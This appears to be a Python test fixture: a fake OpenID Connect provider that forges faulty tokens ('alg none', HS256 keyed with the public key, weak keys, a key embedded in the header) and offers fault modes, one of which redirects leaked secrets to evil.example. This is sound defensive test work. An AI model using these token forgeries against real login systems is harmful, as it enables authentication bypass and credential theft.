"""A login provider of our own: OpenID Connect by its text, people, keys that change, and faults on demand.

It shares no line with the client: tokens are put together here, by hand and ``cryptography`` alone.
"""

from __future__ import annotations

import base64
import hashlib
import hmac
import html
import json
import secrets
import threading
import time
from collections.abc import Callable, Iterator, Mapping
from contextlib import contextmanager
from dataclasses import dataclass, field
from functools import cache
from typing import Any
from urllib.parse import parse_qsl, unquote_plus, urlencode

import anyio.to_thread
from cryptography.hazmat.primitives import hashes, serialization
from cryptography.hazmat.primitives.asymmetric import ec, padding, rsa
from cryptography.hazmat.primitives.asymmetric.utils import decode_dss_signature
from starlette.applications import Starlette
from starlette.requests import Request
from starlette.responses import HTMLResponse, JSONResponse, RedirectResponse, Response
from starlette.routing import Route

from rigs.webapp import on_uvicorn

CLIENT, SECRET = "gatepost", "the-client-s-own-secret-0123456789"
REALM = "/realms/office"
VERA = {"sub": "248289761001", "preferred_username": "vera", "groups": ["staff"]}
ANNA = {
    "sub": "0f5e-anna",
    "preferred_username": "anna",
    "email": "anna@example.com",
    "groups": ["staff", "net"],
}

Key = rsa.RSAPrivateKey | ec.EllipticCurvePrivateKey
Claims = dict[str, Any]


def b64(data: bytes) -> str:
    """As JOSE writes bytes."""
    return base64.urlsafe_b64encode(data).decode().rstrip("=")


def number(value: int, size: int | None = None) -> str:
    """As JOSE writes numbers."""
    return b64(value.to_bytes(size or (value.bit_length() + 7) // 8))


@cache
def key(name: str) -> Key:
    """Made once a name: ``ec…`` and ``weak…`` are of their kind."""
    if name.startswith("ec"):
        return ec.generate_private_key(ec.SECP256R1())
    return rsa.generate_private_key(65537, 1024 if name.startswith("weak") else 2048)


def public(name: str) -> Claims:
    """The JWK of a key's public half."""
    numbers = key(name).public_key().public_numbers()
    common = {"kid": name, "use": "sig"}
    if isinstance(numbers, rsa.RSAPublicNumbers):
        return {**common, "kty": "RSA", "alg": "RS256", "n": number(numbers.n), "e": number(numbers.e)}
    return {**common, "kty": "EC", "crv": "P-256", "x": number(numbers.x, 32), "y": number(numbers.y, 32)}


def signature(name: str, data: bytes) -> bytes:
    """Of the kind that fits the key."""
    made = key(name)
    if isinstance(made, rsa.RSAPrivateKey):
        return made.sign(data, padding.PKCS1v15(), hashes.SHA256())
    r, s = decode_dss_signature(made.sign(data, ec.ECDSA(hashes.SHA256())))
    return r.to_bytes(32) + s.to_bytes(32)


def pem(name: str) -> bytes:
    """What a careless client would take for the secret of an HMAC."""
    form = serialization.PublicFormat.SubjectPublicKeyInfo
    return key(name).public_key().public_bytes(serialization.Encoding.PEM, form)


def token(claims: Claims, name: str, **header: Any) -> str:
    """A JWT; ``alg`` in the header says by what, ``kid=None`` leaves it out."""
    usual = {"alg": "ES256" if name.startswith("ec") else "RS256", "typ": "JWT", "kid": name}
    head = {one: value for one, value in {**usual, **header}.items() if value is not None}
    signed = f"{b64(json.dumps(head).encode())}.{b64(json.dumps(claims).encode())}"
    match head["alg"]:
        case "none":
            made = b""
        case "HS256":
            made = hmac.digest(pem(name), signed.encode(), "sha256")
        case _:
            made = signature(name, signed.encode())
    return f"{signed}.{b64(made)}"


def half(text: str) -> str:
    """``at_hash``: the left half of SHA-256."""
    return b64(hashlib.sha256(text.encode()).digest()[:16])


def without(claims: Claims, *names: str) -> Claims:
    """Some claims fewer."""
    return {name: value for name, value in claims.items() if name not in names}


WRONG_CLAIMS: Mapping[str, Claims] = {
    "iss": {"iss": "https://evil.example"},
    "aud": {"aud": "another"},
    "aud of several": {"aud": [CLIENT, "another"]},
    "azp": {"azp": "another"},
    "nonce": {"nonce": "another"},
    "no nonce": {"nonce": None},
    "exp": {"exp": 1_700_000_000},
    "no exp": {"exp": None},
    "exp is a text": {"exp": "9999999999"},
    "iat": {"iat": 9_999_999_999},
    "at_hash": {"at_hash": half("another")},
    "at_hash is a number": {"at_hash": 7},
    "no sub": {"sub": None},
    "sub is a number": {"sub": 7},
    "sub is long": {"sub": "x" * 256},
    "sub is blank": {"sub": " "},
}
"""What a token may say that nobody may believe; None leaves the claim out."""
WRONG_HEADS: Mapping[str, tuple[str, Claims]] = {
    "alg none": ("", {"alg": "none"}),
    "alg none, no kid": ("", {"alg": "none", "kid": None}),
    "alg HS256": ("", {"alg": "HS256"}),
    "foreign key": ("foreign", {"kid": "first"}),
    "unknown key": ("foreign", {}),
    "key in its own header": ("foreign", {"kid": "first", "jwk": {}}),
    "weak key": ("weak", {}),
    "critical": ("", {"crit": ["exp"], "exp": 1}),
}
"""Which key signs it, if not the usual one, and what its header says."""
NO_TOKENS: Mapping[str, str] = {"cut": "{whole:.80}", "one part": "eyJhbGciOiJSUzI1NiJ9", "words": "a.b.c"}
"""What is no token."""
FORGED = (*WRONG_CLAIMS, *WRONG_HEADS, *NO_TOKENS)


def forged(fault: str, signing: str, claims: Claims) -> str | None:
    """A token with a fault; None for what is no fault of tokens."""
    if fault in WRONG_CLAIMS:
        changed = {**claims, **WRONG_CLAIMS[fault]}
        return token(without(changed, *(one for one, value in changed.items() if value is None)), signing)
    if fault in WRONG_HEADS:
        other, header = WRONG_HEADS[fault]
        own = {"jwk": public(other)} if "jwk" in header else {}
        return token(claims, other or signing, **{**header, **own})
    return NO_TOKENS[fault].format(whole=token(claims, signing)) if fault in NO_TOKENS else None


SPOKEN = ("html", "redirect", "error", "empty", "slow", "deep", "huge")
"""What any of the addresses may answer instead: ``place:word``, such as ``token:html``."""


@dataclass
class Grant:
    """One code."""

    redirect: str
    challenge: str
    nonce: str
    person: Claims
    scope: str


@dataclass
class StandIn:
    """The provider."""

    url: str = ""
    redirects: set[str] = field(default_factory=set)
    """Registered, to the letter."""
    person: Claims | None = field(default_factory=lambda: dict(VERA))
    """Whoever logs in next; None: nobody is let in."""
    secret: str = SECRET
    fault: str = ""
    signing: str = "first"
    published: list[str] = field(default_factory=lambda: ["first", "weak"])
    described: Claims = field(default_factory=dict)
    """What its description says otherwise."""
    asks: bool = False
    """It shows a page of its own first, as real ones do."""
    thin: bool = False
    """Groups are told at userinfo alone."""
    codes: dict[str, Grant] = field(default_factory=dict)
    issued: list[str] = field(default_factory=list)
    """Everything secret that it ever gave or was sent."""
    asked: list[str] = field(default_factory=list)
    """Its addresses, as they were asked."""
    wrong: list[str] = field(default_factory=list)
    """What it had to refuse, in its own words."""
    released: threading.Event = field(default_factory=threading.Event)
    """Until then, whatever is slow waits."""

    @property
    def issuer(self) -> str:
        """To the letter."""
        return f"{self.url}{REALM}"

    def rotate(self, name: str, *, keep: bool = False) -> None:
        """Another key signs; the one before goes, or stays published."""
        self.published = [*(self.published if keep else ()), name]
        self.signing = name

    def app(self) -> Starlette:
        """Its addresses."""
        return Starlette(
            routes=[
                Route(f"{REALM}/.well-known/openid-configuration", self._say("discovery", self._describe)),
                Route(f"{REALM}/authorize", self._authorize),
                Route(f"{REALM}/token", self._say("token", self._token), methods=["POST"]),
                Route(f"{REALM}/jwks", self._say("jwks", self._jwks)),
                Route(f"{REALM}/userinfo", self._say("userinfo", self._userinfo)),
            ]
        )

    def _say(self, place: str, answer: Callable[..., Any]) -> Callable[[Request], Any]:
        async def said(request: Request) -> Response:
            form = dict(parse_qsl((await request.body()).decode(), strict_parsing=False))
            return await run(answer, request, form)

        async def run(answer: Callable[..., Any], request: Request, form: dict[str, str]) -> Response:
            self.asked.append(place)
            at, _, word = self.fault.partition(":")
            return await self._instead(word) if at == place else answer(request, form)

        return said

    async def _instead(self, word: str) -> Response:
        leak = " ".join(self.issued[-4:])
        match word:
            case "html":
                return HTMLResponse(f"<p>Sign in to the network {leak}")
            case "redirect":
                return RedirectResponse(f"https://evil.example/?{urlencode({'leak': leak})}")
            case "error":
                return JSONResponse({"error": "server_error", "error_description": leak}, 500)
            case "empty":
                return JSONResponse({"leak": leak})
            case "deep":
                return Response("[" * 5000, media_type="application/json")
            case "huge":
                return Response(b'{"x":"' + b"x" * (1 << 20) + b'"}', media_type="application/json")
        await anyio.to_thread.run_sync(self.released.wait, 30)
        return JSONResponse({})

    def _describe(self, _: Request, __: dict[str, str]) -> Response:
        usual = {
            "issuer": self.issuer,
            "authorization_endpoint": f"{self.issuer}/authorize?kept=1",
            "token_endpoint": f"{self.issuer}/token",
            "jwks_uri": f"{self.issuer}/jwks",
            "userinfo_endpoint": f"{self.issuer}/userinfo",
            "response_types_supported": ["code"],
            "subject_types_supported": ["public"],
            "id_token_signing_alg_values_supported": ["RS256"],
            "code_challenge_methods_supported": ["S256"],
            "token_endpoint_auth_methods_supported": ["client_secret_basic", "client_secret_post"],
            "authorization_response_iss_parameter_supported": True,
        }
        return JSONResponse({one: is_ for one, is_ in {**usual, **self.described}.items() if is_ is not None})

    def _authorize(self, request: Request) -> Response:
        asked = dict(request.query_params)
        if self.asks and "agreed" not in asked:
            agreed = html.escape(f"{request.url.path}?{request.url.query}&agreed=1")
            return HTMLResponse(f'<!doctype html><title>Office</title><a href="{agreed}">It is me</a>')
        redirect, state = asked.get("redirect_uri", ""), asked.get("state", "")
        needed = {"response_type": "code", "client_id": CLIENT, "code_challenge_method": "S256", "kept": "1"}
        if redirect not in self.redirects:  # RFC 6749, 4.1.2.1: nobody is sent to a place that is not known
            return self._refused(f"redirect_uri {redirect}")
        if (
            any(asked.get(one) != value for one, value in needed.items())
            or "openid" not in asked["scope"].split()
        ):
            return self._refused(f"authorize {asked}")
        if min(len(asked.get(one, "")) for one in ("code_challenge", "nonce", "state")) < 20:
            return self._refused("code_challenge, nonce or state is missing")
        sent = {"state": state, "iss": "https://evil.example" if self.fault == "sender" else self.issuer}
        if self.fault == "no sender":
            del sent["iss"]
        if self.person is None:
            return RedirectResponse(f"{redirect}?{urlencode({**sent, 'error': 'access_denied'})}", 302)
        code = self._new()
        self.codes[code] = Grant(
            redirect, asked["code_challenge"], asked["nonce"], self.person, asked["scope"]
        )
        extra = {"code": code, "session_state": "of a provider's own"}
        return RedirectResponse(f"{redirect}?{urlencode({**sent, **extra})}", 302)

    def _token(self, request: Request, form: dict[str, str]) -> Response:
        self.issued += [form.get("code", ""), form.get("code_verifier", "")]
        if not self._knows(request, form):
            return self._refused("client", "invalid_client", 401)
        grant = self.codes.pop(form.get("code", ""), None)
        verifier = form.get("code_verifier", "")
        good = grant is not None and grant.redirect == form.get("redirect_uri")
        if not good or b64(hashlib.sha256(verifier.encode()).digest()) != grant.challenge:
            return self._refused("code, redirect_uri or verifier", "invalid_grant")
        access = self._new()
        self.codes[f"access {access}"] = grant
        now = int(time.time())
        own = without(grant.person, "groups") if self.thin else grant.person
        claims = {
            "iss": self.issuer,
            "aud": CLIENT,
            "exp": now + 300,
            "iat": now,
            "nonce": grant.nonce,
            **own,
        }
        claims["at_hash"] = half(access)
        made = forged(self.fault, self.signing, claims) or token(claims, self.signing, **self._header())
        self.issued.append(made)
        kind = "mac" if self.fault == "mac token" else "Bearer"
        return JSONResponse({"access_token": access, "token_type": kind, "id_token": made, "expires_in": 300})

    def _header(self) -> Claims:
        return {"kid": None} if self.fault == "no kid" else {"x-own": "a header that nobody knows"}

    def _knows(self, request: Request, form: dict[str, str]) -> bool:
        """RFC 6749, 2.3.1: both parts were escaped as a form is, before Basic."""
        scheme, _, told = request.headers.get("authorization", "").partition(" ")
        if scheme == "Basic":
            pair = base64.b64decode(told).decode().partition(":")
            return (unquote_plus(pair[0]), unquote_plus(pair[2])) == (CLIENT, self.secret)
        return (form.get("client_id"), form.get("client_secret")) == (CLIENT, self.secret)

    def _jwks(self, _: Request, __: dict[str, str]) -> Response:
        strange = [{"kty": "oct", "k": b64(pem(self.signing)), "kid": "oct"}, {"kty": "PQ"}, {"kty": "RSA"}]
        return JSONResponse({"keys": [*strange, *map(public, self.published)]})

    def _userinfo(self, request: Request, _: dict[str, str]) -> Response:
        grant = self.codes.get(f"access {request.headers.get('authorization', '').removeprefix('Bearer ')}")
        if grant is None:
            return self._refused("access token", "invalid_token", 401)
        other = {"sub": "somebody else"} if self.fault == "userinfo of another" else {}
        return JSONResponse({**grant.person, **other})

    def _new(self) -> str:
        made = secrets.token_urlsafe(24)
        self.issued.append(made)
        return made

    def _refused(self, why: str, error: str = "invalid_request", status: int = 400) -> Response:
        self.wrong.append(why)
        leak = " ".join(self.issued[-4:])
        return JSONResponse({"error": error, "error_description": f"{why} {leak}"}, status)


@contextmanager
def stand_in() -> Iterator[StandIn]:
    """On a port of its own, by a name that is another site than an address is."""
    made = StandIn()
    with on_uvicorn(made.app()) as port:
        made.url = f"http://localhost:{port}"
        try:
            yield made
        finally:
            made.released.set()
